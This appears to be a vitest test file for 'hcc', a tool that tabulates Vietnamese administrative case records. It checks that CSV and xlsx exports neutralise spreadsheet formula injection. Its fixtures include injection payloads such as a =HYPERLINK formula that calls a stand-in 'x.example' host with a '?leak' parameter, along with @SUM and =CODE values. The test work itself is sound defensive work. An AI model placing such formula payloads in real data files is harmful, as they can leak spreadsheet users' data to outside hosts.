// Values from the data that a spreadsheet would run as formulas (=HYPERLINK(…), +…, -…, @…) are text in
// every CSV hcc writes, and hcc's own figures stay plain numbers; workbooks keep them as strings.
import { readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runHcc, tempDir } from '../helpers/run-hcc.js';

const LINK = '=HYPERLINK("http://x.example/?leak","y")';
const HEADER = 'Mã hồ sơ,Đơn vị,Lĩnh vực,Tên thủ tục hành chính,Ngày tiếp nhận,Ngày hẹn trả,Ngày có kết quả,Trạng thái';
const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
const ROWS = [
  `=CODE(1),${quote(LINK)},+Hộ tịch,-Đăng ký khai sinh,02/01/2024,10/01/2024,,Đang xử lý`, // overdue at 31/01
  `A2,${quote(LINK)},+Hộ tịch,@SUM(A1),03/01/2024,20/01/2024,15/01/2024,Đã trả kết quả`,
  'A3,@Sở Y tế,Dược,Cấp phép,04/01/2024,10/01/2024,09/01/2024,Đã trả kết quả',
  'A4,-Sở Tư pháp,Hộ tịch,Khai tử,05/01/2024,10/01/2024,,Đang xử lý',
  '=BAD(),Sở Y tế,Dược,Cấp phép,31/06/2024,,,Đang xử lý', // rejected: its code goes to hcc-rejects.csv
];
const DANGEROUS = /^[=+\-@\t\r]/;

let dir: string;
let input: string;

beforeAll(() => {
  dir = tempDir('hcc-csv-injection-');
  input = join(dir, 'ho-so.csv');
  writeFileSync(input, [HEADER, ...ROWS].join('\n'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function cells(text: string): string[][] {
  return parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
}

/** No cell of the file would start a formula; the names are there with a ' in front. */
function expectInert(rows: string[][], expected: string[]): void {
  for (const row of rows) for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(DANGEROUS);
  const all = rows.flat();
  for (const value of expected) expect(all).toContain(`'${value}`);
}

/** hcc's figure columns: plain integers, never prefixed. */
function expectNumbers(rows: string[][], from: number): void {
  for (const row of rows.slice(1)) for (const cell of row.slice(from)) expect(cell).toMatch(/^\d+$/);
}

describe('CSV outputs never carry a live formula', () => {
  it('hcc table --format csv, on stdout and with --out', () => {
    const r = runHcc(['table', '--input', input, '--period', '2024-01', '--format', 'csv'], { cwd: dir });
    expect(r.status, r.stderr).toBe(0);
    const rows = cells(r.stdout);
    expectInert(rows, [LINK, '@Sở Y tế', '-Sở Tư pháp']);
    expectNumbers(rows, 2);
    const link = rows.find((row) => row[1] === `'${LINK}`)!;
    expect(link.slice(2, 5)).toEqual(['2', '2', '0']); // received total, new, carried over: numbers as they are

    const out = join(dir, 'bang.csv');
    expect(runHcc(['table', '--input', input, '--period', '2024-01', '--format', 'csv', '--out', out], { cwd: dir }).status).toBe(0);
    expect(readFileSync(out, 'utf8')).toBe(r.stdout);
  });

  it('hcc table --by field and --by procedure', () => {
    for (const by of ['field', 'procedure']) {
      const r = runHcc(['table', '--input', input, '--period', '2024-01', '--format', 'csv', '--by', by], { cwd: dir });
      expect(r.status, r.stderr).toBe(0);
      const rows = cells(r.stdout);
      expectInert(rows, by === 'field' ? ['+Hộ tịch'] : ['-Đăng ký khai sinh', '@SUM(A1)']);
      expectNumbers(rows, 2);
    }
  });

  it('hcc export csv files', () => {
    const out = join(dir, 'export');
    const r = runHcc(['export', '--input', input, '--every', 'month', '--from', '2024-01', '--to', '2024-01', '--format', 'csv', '--out', out], { cwd: dir });
    expect(r.status, r.stderr).toBe(0);
    const rows = cells(readFileSync(join(out, 'hcc-2024-01.csv'), 'utf8'));
    expectInert(rows, [LINK, '@Sở Y tế', '-Sở Tư pháp']);
    expectNumbers(rows, 2);
  });

  it('hcc overdue --format csv', () => {
    const r = runHcc(['overdue', '--input', input, '--as-of', '2024-01-31', '--format', 'csv'], { cwd: dir });
    expect(r.status, r.stderr).toBe(0);
    const rows = cells(r.stdout);
    expectInert(rows, ['=CODE(1)', LINK, '+Hộ tịch', '-Đăng ký khai sinh']);
    // days_overdue and workdays_overdue stay numbers; dates stay dates (10/1 → 31/1/2024: 21 days, 15 working days).
    const first = rows.find((row) => row[1] === "'=CODE(1)")!;
    expect(first.slice(5)).toEqual(['2024-01-02', '2024-01-10', '', '21', '15']);
  });

  it('hcc-rejects.csv', () => {
    const rejects = join(dir, 'loai.csv');
    const r = runHcc(['table', '--input', input, '--period', '2024-01', '--rejects', rejects], { cwd: dir });
    expect(r.status, r.stderr).toBe(0);
    const rows = cells(readFileSync(rejects, 'utf8'));
    expectInert(rows, ['=BAD()']);
    expect(rows[1][1]).toBe('6'); // the line number stays a number
  });
});

describe('workbooks keep such names as text', () => {
  const stringCells = async (file: string, value: string) => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const found: ExcelJS.Cell[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => (c.text === value || c.value === value ? found.push(c) : undefined))));
    return found;
  };
  const expectText = (found: ExcelJS.Cell[]) => {
    expect(found.length).toBeGreaterThan(0);
    for (const c of found) {
      expect(c.type).toBe(ExcelJS.ValueType.String);
      expect(c.formula).toBeUndefined();
    }
  };

  it('hcc report, hcc export --format xlsx, hcc overdue --format xlsx and hcc due-dates --format xlsx', async () => {
    const report = join(dir, 'report');
    expect(runHcc(['report', '--input', input, '--period', '2024-01', '--format', 'xlsx', '--out', report], { cwd: dir }).status).toBe(0);
    expectText(await stringCells(join(report, 'phu-luc-2024-01.xlsx'), LINK));

    const exp = join(dir, 'export-xlsx');
    expect(runHcc(['export', '--input', input, '--every', 'month', '--from', '2024-01', '--to', '2024-01', '--format', 'xlsx', '--out', exp], { cwd: dir }).status).toBe(0);
    expect(readdirSync(exp)).toEqual(['hcc-2024-01.xlsx']);
    expectText(await stringCells(join(exp, 'hcc-2024-01.xlsx'), LINK));

    const overdue = join(dir, 'qua-han.xlsx');
    expect(runHcc(['overdue', '--input', input, '--as-of', '2024-01-31', '--format', 'xlsx', '--out', overdue], { cwd: dir }).status).toBe(0);
    expectText(await stringCells(overdue, LINK));
    expectText(await stringCells(overdue, '=CODE(1)'));

    const limits = join(dir, 'han.json');
    writeFileSync(limits, '{ "timeLimits": { "-Đăng ký khai sinh": 1 } }');
    const dueDates = join(dir, 'hen-tra.xlsx');
    expect(runHcc(['due-dates', '--input', input, '--config', limits, '--format', 'xlsx', '--out', dueDates], { cwd: dir }).status).toBe(0);
    for (const value of [LINK, '=CODE(1)', '-Đăng ký khai sinh']) expectText(await stringCells(dueDates, value));
  });
});
